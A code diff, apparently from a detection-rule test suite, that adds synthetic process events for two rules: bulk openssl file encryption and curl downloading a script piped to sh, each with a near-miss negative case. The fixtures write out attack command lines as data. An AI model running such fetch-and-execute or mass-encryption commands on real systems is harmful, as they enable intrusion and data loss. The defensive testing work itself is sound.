@@ -234,6 +234,34 @@ def _():
     return ([exec_(0, php), acc], [exec_(0, with_(php, args=["php", "-v"])), acc])
 
 
+@proof("impact_data_encrypted_via_openssl")
+def _():
+    # ten openssl encryptions (-pass, -in, -out) by one user from one
+    # shell within 5 s (runs=10; the join is host.id, user.name and the
+    # parent's entity). Near miss: the tenth by another user name.
+    o = proc(5401, "/usr/bin/openssl", ["openssl", "enc", "-aes-256-cbc", "-pass", "pass:k",
+                                         "-in", "doc.pdf", "-out", "doc.pdf.enc"], 5400)
+    runs = [with_(exec_(i * 0.4, with_(o, pid=5401 + i, entity_id="%d-77%d" % (5401 + i, 5401 + i))),
+                  **{"user.name": "alice"}) for i in range(10)]
+    neg = runs[:9] + [with_(runs[9], **{"user.name": "bob"})]
+    return runs, neg
+
+
+@proof("execution_payload_downloaded_by_curl_wget_and_piped_to_interpreter")
+def _():
+    # a shell runs curl of a script by address and a sh reading the pipe,
+    # which ends within 1 s, both in the shell's working directory (the
+    # join: host.id, the parent's entity, process.working_directory).
+    # Near miss: the sh ran in another directory.
+    curl = proc(5501, "/usr/bin/curl", ["curl", "http://%s/x.sh" % PUBLIC], 5500,
+                working_directory="/home/alice")
+    sh = proc(5502, "/usr/bin/dash", ["sh"], 5500, working_directory="/home/alice")
+    sh["name"] = "sh"
+    end = with_(ev(0.5, "process", "end", sh), **{"process.exit_code": 0})
+    return ([exec_(0, curl), end],
+            [exec_(0, curl), with_(end, **{"process.working_directory": "/tmp"})])
+
+
 # ---- single events: process --------------------------------------------
 
 def one_exec(pid, exe, args, uid=1000, neg_args=None, neg=None, neg_uid=None, **extra):
